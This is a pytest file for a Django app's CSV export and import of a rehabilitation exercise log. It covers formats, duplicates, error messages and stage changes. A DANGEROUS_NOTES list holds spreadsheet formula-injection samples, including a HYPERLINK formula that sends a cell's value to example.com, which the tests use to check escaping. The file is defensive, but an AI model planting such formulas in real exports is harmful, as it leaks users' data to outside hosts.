"""The log as CSV: what export writes, what import accepts, and what it refuses."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from exercises.models import Exercise
from progress.csvlog import COLUMNS, MAX_BYTES, MAX_ROWS, ImportResult, import_csv, write_csv
from progress.models import Session, SessionExercise, StageChange

pytestmark = pytest.mark.django_db

HEADER = ",".join(COLUMNS)


@pytest.fixture
def alice(django_user_model):
    return django_user_model.objects.create_user("alice", password="correct horse battery")


@pytest.fixture
def bob(django_user_model):
    return django_user_model.objects.create_user("bob", password="correct horse battery")


def days_ago(n: int) -> date:
    return timezone.localdate() - timedelta(days=n)


def log(user, day: date, entries=(), **fields) -> Session:
    """A session in the person's log; entries are (slug, dose) with dose the entry's fields."""
    values = {
        "leg_pain_before": 3,
        "leg_pain_after": 3,
        "back_pain": 4,
        "symptoms_reach": "thigh",
    }
    session = Session.objects.create(user=user, date=day, **(values | fields))
    for order, (slug, dose) in enumerate(entries):
        exercise = Exercise.objects.get(slug=slug)
        SessionExercise.objects.create(session=session, exercise=exercise, order=order, **dose)
    return session


def row(**values: str) -> list[str]:
    """A data row that imports cleanly, with the given columns changed."""
    defaults = {
        "date": days_ago(3).isoformat(),
        "leg_pain_before": "3",
        "leg_pain_after": "2",
        "leg_pain_next_morning": "",
        "back_pain": "4",
        "symptoms_reach": "thigh",
        "exercises": "gluteal-stretch:3x30s;walk",
        "red_flags": "",
        "notes": "",
    }
    return [(defaults | values)[name] for name in COLUMNS]


def csv_of(*rows: list[str], header: list[str] | None = COLUMNS) -> str:
    """The rows as CSV text, after a header unless header is None."""
    out = io.StringIO()
    writer = csv.writer(out)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def export(user) -> str:
    out = io.StringIO()
    write_csv(user, out)
    return out.getvalue()


def counts() -> tuple[int, int]:
    return Session.objects.count(), SessionExercise.objects.count()


def refused(*errors: str) -> ImportResult:
    return ImportResult(created=0, skipped=0, errors=list(errors))


# --- Export --------------------------------------------------------------------------------------


def test_an_empty_log_exports_only_the_header(alice):
    assert export(alice) == HEADER + "\r\n"


def test_export_writes_each_session_in_the_agreed_columns(alice):
    log(
        alice,
        date(2026, 1, 5),
        [
            ("gluteal-stretch", {"sets": 3, "hold_seconds": 30}),
            ("lunge", {"sets": 2, "reps": 10, "load_kg": Decimal("2.50")}),
            ("walk", {}),
        ],
        leg_pain_before=4,
        leg_pain_after=3,
        leg_pain_next_morning=2,
        back_pain=5,
        symptoms_reach="below_knee",
        red_flags=["both_legs", "saddle_numbness"],
        notes="Stiff at first",
    )
    assert export(alice).splitlines()[1] == (
        "2026-01-05,4,3,2,5,below_knee,gluteal-stretch:3x30s;lunge:2x10@2.5;walk,"
        "both_legs;saddle_numbness,Stiff at first"
    )


def test_sessions_come_oldest_first_and_exercises_in_their_order(alice):
    later = log(alice, date(2026, 1, 9), [("walk", {}), ("bridge", {})])
    log(alice, date(2026, 1, 5), notes="first")
    log(alice, date(2026, 1, 9), notes="same day, logged after")
    SessionExercise.objects.filter(session=later, exercise__slug="walk").update(order=5)

    rows = list(csv.reader(io.StringIO(export(alice))))[1:]

    assert [(r[0], r[6], r[8]) for r in rows] == [
        ("2026-01-05", "", "first"),
        ("2026-01-09", "bridge;walk", ""),
        ("2026-01-09", "", "same day, logged after"),
    ]


@pytest.mark.parametrize(
    ("load", "written"),
    [("2.50", "2.5"), ("2.00", "2"), ("100.00", "100"), ("0.25", "0.25")],
)
def test_loads_are_written_without_trailing_zeros(alice, load, written):
    log(alice, date(2026, 1, 5), [("weighted-lunge", {"load_kg": Decimal(load)})])
    assert f",weighted-lunge@{written}," in export(alice)


def test_a_dose_given_only_in_part_is_written_as_it_is(alice):
    log(
        alice,
        date(2026, 1, 5),
        [
            ("squat", {"sets": 3}),
            ("bridge", {"reps": 10}),
            ("plank", {"hold_seconds": 30}),
            ("lunge", {"sets": 2, "load_kg": Decimal("2.5")}),
        ],
    )
    assert ",squat:3x;bridge:x10;plank:x30s;lunge:2x@2.5," in export(alice)


def test_export_holds_only_the_persons_own_sessions(alice, bob):
    log(alice, date(2026, 1, 5), notes="alice's")
    log(bob, date(2026, 1, 6), notes="bob's")
    assert "bob's" not in export(alice)
    assert "alice's" in export(alice)


def test_export_takes_the_same_number_of_queries_however_long_the_log(
    alice, django_assert_num_queries
):
    log(alice, date(2026, 1, 5), [("walk", {})])
    with django_assert_num_queries(2):
        export(alice)
    for n in range(10):
        log(alice, date(2026, 1, 6 + n), [("walk", {}), ("lunge", {"sets": 2, "reps": 8})])
    with django_assert_num_queries(2):
        export(alice)


# --- Round trip ----------------------------------------------------------------------------------


def test_export_then_import_gives_the_same_rows(alice, bob):
    log(
        alice,
        days_ago(9),
        [("gluteal-stretch", {"sets": 3, "hold_seconds": 30}), ("walk", {})],
        notes='Tight, then "much" better.\nWalked to the shop, slowly.',
    )
    log(
        alice,
        days_ago(8),
        [
            ("lunge", {"sets": 2, "reps": 10, "load_kg": Decimal("2.5")}),
            ("weighted-lunge", {"load_kg": Decimal("4.00")}),
        ],
        leg_pain_next_morning=2,
        red_flags=["both_legs", "worsening_weakness"],
        notes="Windows line end\r\ninside, and a comma",
    )
    log(alice, days_ago(8), symptoms_reach="none", leg_pain_after=2, leg_pain_next_morning=0)
    text = export(alice)

    result = import_csv(bob, text)

    # The weighted lunge was done before its stage opened: kept, and counted as such.
    assert result == ImportResult(
        created=3, skipped=0, errors=[], early_entries=1, older_warning_signs=[days_ago(8)]
    )
    assert export(bob) == text


def test_a_dose_noted_only_in_part_goes_out_and_comes_back_the_same(alice, bob):
    partial = [
        ("squat", {"sets": 3}),
        ("bridge", {"reps": 12}),
        ("plank", {"hold_seconds": 20}),
        ("lunge", {"sets": 2, "load_kg": Decimal("2.5")}),
        ("calf-raise", {"sets": 2, "reps": 15}),
        ("gluteal-stretch", {"sets": 3, "hold_seconds": 30}),
    ]
    log(alice, days_ago(3), partial)
    text = export(alice)

    assert import_csv(bob, text).created == 1
    assert export(bob) == text
    doses = SessionExercise.objects.filter(session__user=bob).values_list(
        "exercise__slug", "sets", "reps", "hold_seconds", "load_kg"
    )
    assert list(doses) == [
        ("squat", 3, None, None, None),
        ("bridge", None, 12, None, None),
        ("plank", None, None, 20, None),
        ("lunge", 2, None, None, Decimal("2.5")),
        ("calf-raise", 2, 15, None, None),
        ("gluteal-stretch", 3, None, 30, None),
    ]
    # The same file again adds nothing: its rows are already in the log.
    assert import_csv(bob, text) == ImportResult(created=0, skipped=1, errors=[])


def test_a_byte_order_mark_at_the_start_is_ignored(alice):
    result = import_csv(alice, "\ufeff" + csv_of(row()))
    assert result == ImportResult(created=1, skipped=0, errors=[])


def test_import_saves_what_each_column_says(alice):
    import_csv(
        alice,
        csv_of(
            row(
                date="2026-01-05",
                leg_pain_next_morning="1",
                exercises="gluteal-stretch:3x30s;lunge:2x10@2.5;walk;weighted-lunge@4",
                red_flags="bladder_bowel;both_legs",
                notes="  kept as written  ",
            )
        ),
    )
    session = Session.objects.get(user=alice)
    entries = list(session.entries.values_list("exercise__slug", "order", "sets", "reps"))
    doses = list(session.entries.values_list("hold_seconds", "load_kg"))

    assert (session.date, session.leg_pain_next_morning) == (date(2026, 1, 5), 1)
    assert session.red_flags == ["bladder_bowel", "both_legs"]
    assert session.notes == "  kept as written  "
    assert entries == [
        ("gluteal-stretch", 0, 3, None),
        ("lunge", 1, 2, 10),
        ("walk", 2, None, None),
        ("weighted-lunge", 3, None, None),
    ]
    assert doses == [(30, None), (None, Decimal("2.5")), (None, None), (None, Decimal("4"))]


def test_import_never_refuses_a_session_for_the_stage_of_its_exercises(alice):
    # Advanced exercises are locked for a new person, but an imported session is history.
    result = import_csv(alice, csv_of(row(exercises="weighted-lunge@2.5;side-plank:3x20s")))
    assert result == ImportResult(created=1, skipped=0, errors=[], early_entries=2)


def test_exercises_done_before_their_stage_opened_are_marked_in_the_history(client_alice, alice):
    from django.core.files.uploadedfile import SimpleUploadedFile

    calm = [
        row(date=days_ago(30 - n).isoformat(), exercises="core-stabilization:1x10")
        for n in (0, 3, 5, 8, 10, 13)
    ]
    early = row(date=days_ago(29).isoformat(), exercises="plank:1x20s")
    later = row(date=days_ago(10).isoformat(), exercises="plank:1x30s")
    upload = SimpleUploadedFile("log.csv", csv_of(*calm, early, later).encode())
    response = client_alice.post("/progress/import/", {"file": upload}, follow=True)
    assert "1 exercise was done before its stage opened for you." in response.content.decode()
    # The history shows a month a page: read the months of both planks, oldest first.
    months = sorted({f"{day:%Y-%m}" for day in (days_ago(29), days_ago(10))})
    html = "".join(
        client_alice.get("/progress/history/", {"month": month}).content.decode()
        for month in months
    )
    # The plank of 29 days ago is marked; the one after the stage opened is not.
    assert html.count("before its stage opened</span>") == 1
    marked = html.index("before its stage opened</span>")
    assert html.rfind(f"{days_ago(29):%A %-d %B %Y}", 0, marked) > html.rfind(
        f"{days_ago(10):%A %-d %B %Y}", 0, marked
    )


def test_the_log_form_and_the_import_read_the_same_stage_history():
    from progress.gate import PAUSED, UNLOCKED, Change, open_before

    changes = [
        Change("plank", UNLOCKED, 5, date(2026, 1, 14), "calm"),
        Change("plank", PAUSED, 9, date(2026, 1, 20), "flare"),
    ]
    assert not open_before(changes, "plank", date(2026, 1, 14), 5)  # the unlocking session
    assert open_before(changes, "plank", date(2026, 1, 14), 6)
    assert open_before(changes, "plank", date(2026, 1, 20), 9)  # done before the flare showed
    assert not open_before(changes, "plank", date(2026, 1, 21), 10)
    assert not open_before(changes, "advanced", date(2026, 1, 16), 7)


def test_import_rewrites_the_stage_history(alice):
    calm = [
        row(date=days_ago(30 - n).isoformat(), exercises="core-stabilization:1x10")
        for n in (0, 3, 5, 8, 11, 13)
    ]
    import_csv(alice, csv_of(*calm))
    assert StageChange.objects.filter(
        user=alice, stage__slug="plank", status=StageChange.Status.UNLOCKED
    ).exists()


# --- Duplicates ----------------------------------------------------------------------------------


def test_importing_the_same_file_again_skips_every_session(alice):
    text = csv_of(row(notes="one"), row(notes="two"))
    import_csv(alice, text)

    result = import_csv(alice, text)

    assert result == ImportResult(created=0, skipped=2, errors=[])
    assert Session.objects.filter(user=alice).count() == 2


def test_a_row_twice_in_the_file_against_one_copy_in_the_log_adds_one(alice):
    import_csv(alice, csv_of(row()))
    result = import_csv(alice, csv_of(row(), row()))
    assert result == ImportResult(created=1, skipped=1, errors=[])


def test_a_row_twice_in_a_new_file_adds_both(alice):
    result = import_csv(alice, csv_of(row(), row()))
    assert result == ImportResult(created=2, skipped=0, errors=[])


def test_a_session_differing_in_any_column_is_not_a_duplicate(alice):
    import_csv(alice, csv_of(row()))
    result = import_csv(alice, csv_of(row(leg_pain_next_morning="2")))
    assert result == ImportResult(created=1, skipped=0, errors=[])


def test_only_the_persons_own_log_counts_as_already_there(alice, bob):
    import_csv(bob, csv_of(row()))
    result = import_csv(alice, csv_of(row()))
    assert result == ImportResult(created=1, skipped=0, errors=[])


def test_a_row_written_differently_but_meaning_the_same_is_a_duplicate(alice):
    import_csv(alice, csv_of(row(exercises="lunge:2x10@2.5")))
    result = import_csv(alice, csv_of(row(exercises="lunge:2x10@2.50")))
    assert result == ImportResult(created=0, skipped=1, errors=[])


# --- Refusing a row ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        ({"date": "05/01/2026"}, "date must be written YYYY-MM-DD, not '05/01/2026'."),
        ({"date": "20260105"}, "date must be written YYYY-MM-DD, not '20260105'."),
        ({"date": ""}, "date must be written YYYY-MM-DD, but it is empty."),
        ({"date": "2026-02-30"}, "date '2026-02-30' is not a day on the calendar."),
        ({"leg_pain_after": "12"}, "leg_pain_after must be a whole number from 0 to 10, not '12'."),
        (
            {"leg_pain_before": "2.5"},
            "leg_pain_before must be a whole number from 0 to 10, not '2.5'.",
        ),
        ({"back_pain": "-1"}, "back_pain must be a whole number from 0 to 10, not '-1'."),
        ({"back_pain": ""}, "back_pain must be a whole number from 0 to 10, but it is empty."),
        (
            {"leg_pain_next_morning": "eleven"},
            "leg_pain_next_morning must be empty or a whole number from 0 to 10, not 'eleven'.",
        ),
        (
            {"symptoms_reach": "knee"},
            "symptoms_reach must be one of none, buttock, thigh, below_knee, foot, not 'knee'.",
        ),
        (
            {"exercises": "lunges:2x10"},
            "there is no exercise with the slug 'lunges'. Did you mean lunge?",
        ),
        (
            {"exercises": "lunge:2by10"},
            "exercise 'lunge:2by10' is not in the form slug, slug:SETSxREPS or "
            "slug:SETSxSECONDSs, each optionally followed by @KG (for example lunge:2x10@2.5, "
            "or lunge:2x for sets alone); for walking and swimming slug:MINUTESmin, slug:KMkm "
            "or both (for example walk:25min:2.1km).",
        ),
        (
            {"exercises": "lunge:0x10"},
            "in exercise 'lunge:0x10', sets and repetitions must each be a whole number "
            "from 1 to 32767.",
        ),
        (
            {"exercises": "plank:1x99999s"},
            "in exercise 'plank:1x99999s', sets and seconds must each be a whole number "
            "from 1 to 32767.",
        ),
        (
            {"exercises": "lunge:x"},
            "in exercise 'lunge:x', write the sets before the x, the repetitions after it, or "
            "both (for example lunge:2x10, or lunge:2x for sets alone).",
        ),
        (
            {"exercises": "plank:2xs"},
            "in exercise 'plank:2xs', write the seconds of the hold before the s "
            "(for example plank:2x30s).",
        ),
        (
            {"exercises": "lunge:0x"},
            "in exercise 'lunge:0x', sets must be a whole number from 1 to 32767.",
        ),
        (
            {"exercises": "plank:x0s"},
            "in exercise 'plank:x0s', seconds must be a whole number from 1 to 32767.",
        ),
        (
            {"exercises": "walk:2x:25min"},
            "in exercise 'walk:2x:25min', give minutes and a distance, or sets and a load, "
            "not both (for example walk:25min:2.1km).",
        ),
        (
            {"exercises": "lunge@0"},
            "in exercise 'lunge@0', the load must be more than 0 and at most 999.99 kg, "
            "with at most 2 decimal places.",
        ),
        (
            {"exercises": "lunge@2.555"},
            "in exercise 'lunge@2.555', the load must be more than 0 and at most 999.99 kg, "
            "with at most 2 decimal places.",
        ),
        (
            {"exercises": "walk;lunge;walk"},
            "exercise walk is listed twice; list each exercise once a session.",
        ),
        (
            {"exercises": "walk;;lunge"},
            "exercises has an empty item; separate exercises with one ';'.",
        ),
        (
            {"red_flags": "numb_feet"},
            "'numb_feet' is not a red flag code; use saddle_numbness, bladder_bowel, "
            "both_legs, worsening_weakness.",
        ),
        ({"red_flags": "both_legs;both_legs"}, "red flag both_legs is listed twice."),
        ({"notes": "x" * 2001}, "notes are 2,001 characters long; the limit is 2,000."),
    ],
)
def test_a_bad_row_is_refused_with_its_row_number(alice, values, problem):
    result = import_csv(alice, csv_of(row(), row(**values), row()))
    assert result == refused(f"Row 3: {problem}")


def test_a_date_in_the_future_is_refused(alice):
    tomorrow = days_ago(-1).isoformat()
    result = import_csv(alice, csv_of(row(date=tomorrow)))
    assert result == refused(f"Row 2: date {tomorrow} is in the future.")


def test_today_is_not_in_the_future(alice):
    result = import_csv(alice, csv_of(row(date=days_ago(0).isoformat())))
    assert result.errors == []


@pytest.mark.parametrize("fields", [row()[:-1], [*row(), "extra"]])
def test_a_row_with_too_few_or_too_many_values_is_refused(alice, fields):
    result = import_csv(alice, csv_of(fields))
    assert result == refused(
        f"Row 2: expected 9 values, one for each column, but found {len(fields)}."
    )


def test_every_problem_is_listed_in_row_order(alice):
    text = csv_of(row(), row(leg_pain_after="12", symptoms_reach="knee"), row(date="yesterday"))
    assert import_csv(alice, text).errors == [
        "Row 3: leg_pain_after must be a whole number from 0 to 10, not '12'.",
        "Row 3: symptoms_reach must be one of none, buttock, thigh, below_knee, foot, not 'knee'.",
        "Row 4: date must be written YYYY-MM-DD, not 'yesterday'.",
    ]


def test_one_bad_row_among_good_ones_saves_nothing(alice):
    log(alice, days_ago(20), [("walk", {})])
    before = counts()

    result = import_csv(alice, csv_of(row(), row(), row(exercises="walk;walk"), row()))

    assert result.created == 0
    assert result.errors == [
        "Row 4: exercise walk is listed twice; list each exercise once a session."
    ]
    assert counts() == before


def test_rows_are_numbered_as_a_spreadsheet_shows_them(alice):
    # A note with line breaks is still one row, and a blank line is a row of its own.
    text = (
        csv_of(row(notes="line one\nline two\nline three"))
        + "\r\n"
        + csv_of(row(back_pain="11"), header=None)
    )
    assert import_csv(alice, text).errors == [
        "Row 4: back_pain must be a whole number from 0 to 10, not '11'."
    ]


def test_blank_rows_are_ignored(alice):
    text = csv_of(row(), [""] * len(COLUMNS)) + "\r\n"
    assert import_csv(alice, text) == ImportResult(created=1, skipped=0, errors=[])


# --- Refusing a file -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "\ufeff", "\r\n  \r\n"])
def test_an_empty_file_is_refused(alice, text):
    assert import_csv(alice, text) == refused("The file is empty.")


def test_a_file_with_only_the_header_has_no_sessions(alice):
    assert import_csv(alice, HEADER + "\r\n") == refused("The file has a header but no sessions.")


def test_a_header_missing_a_column_is_refused(alice):
    header = [name for name in COLUMNS if name != "back_pain"]
    result = import_csv(alice, csv_of(row()[:-1], header=header))
    assert result == refused(f"Row 1: the header must be exactly {HEADER} (missing back_pain).")


def test_a_header_with_other_columns_is_refused(alice):
    header = [*COLUMNS[:-1], "comments"]
    result = import_csv(alice, csv_of(row(), header=header))
    assert result == refused(
        f"Row 1: the header must be exactly {HEADER} (missing notes; unexpected 'comments')."
    )


def test_a_header_in_another_order_is_refused(alice):
    header = [COLUMNS[1], COLUMNS[0], *COLUMNS[2:]]
    result = import_csv(alice, csv_of(row(), header=header))
    assert result == refused(
        f"Row 1: the header must be exactly {HEADER} "
        "(the columns are repeated or in another order)."
    )


def test_a_file_over_5_mb_is_refused(alice):
    text = csv_of(row(notes="x" * 1000)) * (MAX_BYTES // 1000)
    assert import_csv(alice, text) == refused(
        "The file is larger than 5 MB; split it into smaller files."
    )


def test_a_file_over_20000_rows_is_refused(alice):
    text = csv_of(*[row()] * (MAX_ROWS + 1))
    assert import_csv(alice, text) == refused(
        "The file has more than 20,000 rows; split it into smaller files."
    )


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            f'{HEADER}\r\n{",".join(row())}\r\n2026-01-05,3,3,,4,thigh,walk,,"never closed\r\n',
            "Row 3 is not valid CSV: a quoted value is opened but never closed.",
        ),
        (
            f'{HEADER}\r\n2026-01-05,3,3,,4,thigh,walk,,"closed"early\r\n',
            "Row 2 is not valid CSV: a closing quote must be followed by a comma or the end of "
            "the line.",
        ),
    ],
)
def test_text_that_is_not_valid_csv_is_refused(alice, text, problem):
    assert import_csv(alice, text) == refused(problem)


def test_a_binary_file_is_refused(alice):
    text = csv_of(row(notes="\x00\x01\x02"))
    assert import_csv(alice, text) == refused(
        "The file is not a CSV text file: it holds characters text cannot contain."
    )


# --- Commands ------------------------------------------------------------------------------------


def test_export_log_writes_the_persons_log_to_standard_output(alice):
    log(alice, date(2026, 1, 5), [("walk", {})], notes="a, b\nc")
    out = io.StringIO()
    call_command("export_log", "alice", stdout=out)
    assert out.getvalue() == export(alice)


@pytest.mark.parametrize(
    ("command", "after_username"), [("export_log", []), ("import_log", ["x.csv"])]
)
def test_the_commands_name_an_unknown_user(command, after_username):
    with pytest.raises(CommandError, match="There is no user called 'carol'"):
        call_command(command, "carol", *after_username)


def test_import_log_says_how_many_sessions_it_added_and_skipped(alice, tmp_path):
    path = tmp_path / "log.csv"
    path.write_text(csv_of(row(notes="one"), row(notes="two\r\nlines")), newline="")

    first, again = io.StringIO(), io.StringIO()
    call_command("import_log", "alice", str(path), stdout=first)
    call_command("import_log", "alice", str(path), stdout=again)

    assert first.getvalue() == "Imported 2 sessions (0 already in the log).\n"
    assert again.getvalue() == "Imported 0 sessions (2 already in the log).\n"
    assert Session.objects.get(notes="two\r\nlines").user == alice


def test_import_log_lists_the_row_errors_and_saves_nothing(alice, tmp_path):
    path = tmp_path / "log.csv"
    path.write_text(csv_of(row(), row(leg_pain_after="12")), newline="")

    with pytest.raises(CommandError) as refusal:
        call_command("import_log", "alice", str(path))

    assert str(refusal.value) == (
        "Nothing was imported.\n"
        "Row 3: leg_pain_after must be a whole number from 0 to 10, not '12'."
    )
    assert counts() == (0, 0)


def test_import_log_refuses_a_file_it_cannot_read(alice, tmp_path):
    with pytest.raises(CommandError, match=r"Cannot read .*missing\.csv"):
        call_command("import_log", "alice", str(tmp_path / "missing.csv"))


def test_import_log_refuses_a_file_that_is_not_utf8(alice, tmp_path):
    path = tmp_path / "log.csv"
    path.write_bytes(csv_of(row(notes="café")).encode("latin-1"))
    with pytest.raises(CommandError, match="not UTF-8 text"):
        call_command("import_log", "alice", str(path))


# --- Spreadsheet formulas -----------------------------------------------------------------------

DANGEROUS_NOTES = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+44 20 7946 0000",
    "-2 on the stairs",
    "@SUM(A1:A2)",
    "\tindented",
    "\rcarriage return",
    "'=already quoted",
    "''",
    "'",
    "it's fine",
]


@pytest.mark.parametrize("note", DANGEROUS_NOTES)
def test_a_note_that_a_spreadsheet_would_run_is_exported_as_text_and_comes_back_as_typed(
    alice, bob, note
):
    from tests.helpers import log_session

    log_session(alice, 1, notes=note)
    out = io.StringIO()
    write_csv(alice, out)
    cell = next(csv.DictReader(io.StringIO(out.getvalue())))["notes"]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert import_csv(bob, out.getvalue()).errors == []
    assert Session.objects.get(user=bob).notes == note


def test_a_quote_is_added_only_where_it_is_needed():
    from progress.csvlog import escape_cell

    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("walked 2 km") == "walked 2 km"
    assert escape_cell("it's fine") == "it's fine"


def test_any_text_survives_escaping():
    from hypothesis import given
    from hypothesis import strategies as st

    from progress.csvlog import FORMULA_START, escape_cell, unescape_cell

    @given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " "])))
    def survives(text):
        escaped = escape_cell(text)
        assert unescape_cell(escaped) == text
        assert not escaped.startswith(FORMULA_START)

    survives()


# --- Walking and swimming in minutes -------------------------------------------------------------


def test_walking_and_swimming_are_written_in_minutes_and_kilometres(alice):
    log(
        alice,
        date(2026, 1, 5),
        [
            ("walk", {"minutes": 25, "distance_km": Decimal("2.10")}),
            ("swim", {"minutes": 30}),
            ("bridge", {"sets": 2, "reps": 10}),
        ],
    )
    log(alice, date(2026, 1, 6), [("walk", {"distance_km": Decimal("3")})])
    rows = list(csv.reader(io.StringIO(export(alice))))[1:]
    assert [r[6] for r in rows] == ["walk:25min:2.1km;swim:30min;bridge:2x10", "walk:3km"]


def test_minutes_and_kilometres_are_imported_and_come_back_the_same(alice, bob):
    text = csv_of(
        row(exercises="walk:25min:2.1km;swim:30min"),
        row(date=days_ago(2).isoformat(), exercises="walk:3km;gluteal-stretch:3x30s"),
    )
    assert import_csv(alice, text).errors == []
    doses = SessionExercise.objects.filter(session__user=alice).values_list(
        "exercise__slug", "minutes", "distance_km", "sets"
    )
    assert sorted(doses, key=str) == [
        ("gluteal-stretch", None, None, 3),
        ("swim", 30, None, None),
        ("walk", 25, Decimal("2.1"), None),
        ("walk", None, Decimal("3"), None),
    ]
    assert import_csv(bob, export(alice)).errors == []
    assert export(bob) == export(alice)


def test_the_older_forms_of_a_walk_keep_their_meaning(alice):
    import_csv(alice, csv_of(row(exercises="walk"), row(exercises="walk:1x10")))
    doses = SessionExercise.objects.values_list("sets", "reps", "minutes", "distance_km")
    assert sorted(doses, key=str) == [(1, 10, None, None), (None, None, None, None)]


@pytest.mark.parametrize(
    ("exercises", "problem"),
    [
        (
            "lunge:25min",
            "in exercise 'lunge:25min', lunge is counted in sets, not in minutes or km: write it "
            "as lunge:SETSxREPS (for example lunge:2x10).",
        ),
        (
            "walk:0min",
            "in exercise 'walk:0min', the minutes must be a whole number from 1 to 1,440 (a day).",
        ),
        (
            "swim:1441min",
            "in exercise 'swim:1441min', the minutes must be a whole number from 1 to 1,440 "
            "(a day).",
        ),
        (
            "walk:25min:0km",
            "in exercise 'walk:25min:0km', the distance must be more than 0 and at most "
            "999.99 km, with at most 2 decimal places.",
        ),
        (
            "walk:25min:2.125km",
            "in exercise 'walk:25min:2.125km', the distance must be more than 0 and at most "
            "999.99 km, with at most 2 decimal places.",
        ),
        (
            "walk:1x10:25min",
            "in exercise 'walk:1x10:25min', give minutes and a distance, or sets and a load, not "
            "both (for example walk:25min:2.1km).",
        ),
        (
            "walk:25min@5",
            "in exercise 'walk:25min@5', give minutes and a distance, or sets and a load, not "
            "both (for example walk:25min:2.1km).",
        ),
    ],
)
def test_a_bad_time_or_distance_is_refused_in_words(alice, exercises, problem):
    assert import_csv(alice, csv_of(row(exercises=exercises))) == refused(f"Row 2: {problem}")


def test_minutes_written_after_the_distance_are_not_in_the_form(alice):
    result = import_csv(alice, csv_of(row(exercises="walk:2km:25min")))
    assert result.errors[0].startswith("Row 2: exercise 'walk:2km:25min' is not in the form")


# --- Suggestions for a slug that is not there ---------------------------------------------------


@pytest.mark.parametrize(
    ("slug", "suggestion"),
    [
        ("single-leg-hamstring", "Did you mean single-leg-hamstring-stretch?"),
        ("hamstring-stretch", "Did you mean standing-hamstring-stretch or "),
        ("Walk", "Did you mean walk?"),
        ("briges", "Did you mean bridge"),
        (
            "yoga",
            "Each exercise's slug is the end of its page address in the exercise library.",
        ),
    ],
)
def test_an_unknown_exercise_is_answered_with_the_nearest_slugs(alice, slug, suggestion):
    (error,) = import_csv(alice, csv_of(row(exercises=slug))).errors
    assert error.startswith(f"Row 2: there is no exercise with the slug '{slug}'. {suggestion}")


# --- Two sessions of one day --------------------------------------------------------------------


def test_sessions_of_one_day_are_written_in_the_order_they_were_done(alice):
    from datetime import time

    log(alice, date(2026, 1, 9), notes="evening", time=time(19, 0))
    log(alice, date(2026, 1, 9), notes="morning", time=time(8, 0))
    log(alice, date(2026, 1, 9), notes="no time")
    rows = list(csv.reader(io.StringIO(export(alice))))[1:]
    assert [r[8] for r in rows] == ["no time", "morning", "evening"]


def test_the_file_keeps_its_columns_and_the_order_of_a_days_rows(alice, bob):
    from datetime import time

    log(alice, days_ago(3), notes="later", time=time(19, 0))
    log(alice, days_ago(3), notes="earlier", time=time(8, 0))
    text = export(alice)
    assert text.splitlines()[0] == HEADER
    import_csv(bob, text)
    assert [s.notes for s in Session.objects.filter(user=bob).reverse()] == ["earlier", "later"]


# --- What the import changed for the stages -----------------------------------------------------


def calm_rows(first_days_back=30, exercises="core-stabilization:1x10"):
    return [
        row(date=days_ago(first_days_back - n).isoformat(), exercises=exercises)
        for n in (0, 3, 5, 8, 11, 13)
    ]


def test_an_import_that_opens_a_stage_says_so(alice):
    from progress.csvlog import StageNews

    result = import_csv(alice, csv_of(*calm_rows()))
    assert result.stage_changes == [StageNews("Plank", "unlocked", days_ago(17))]
    day = days_ago(17)
    year = "" if day.year == days_ago(0).year else f" {day.year}"
    assert str(result.stage_changes[0]) == (
        f"The Plank stage is now open: it unlocked on {day:%-d %B}{year}."
    )


def test_an_import_that_pauses_a_stage_says_since_when(alice):
    from progress.csvlog import StageNews

    import_csv(alice, csv_of(*calm_rows()))
    flare = row(date=days_ago(5).isoformat(), leg_pain_before="3", leg_pain_after="6")
    result = import_csv(alice, csv_of(flare))
    assert result.stage_changes == [StageNews("Plank", "paused", days_ago(5))]
    assert str(result.stage_changes[0]).startswith("The Plank stage has been paused since ")


def test_an_import_that_opens_a_paused_stage_again_says_so(alice):
    import_csv(alice, csv_of(*calm_rows(40)))
    import_csv(alice, csv_of(row(date=days_ago(24).isoformat(), leg_pain_after="6")))
    result = import_csv(alice, csv_of(*calm_rows(20)))
    assert [str(news).split(":")[0] for news in result.stage_changes] == [
        "The Plank stage is open again"
    ]


def test_an_import_that_changes_no_stage_says_nothing_of_stages(alice):
    assert import_csv(alice, csv_of(row())).stage_changes == []
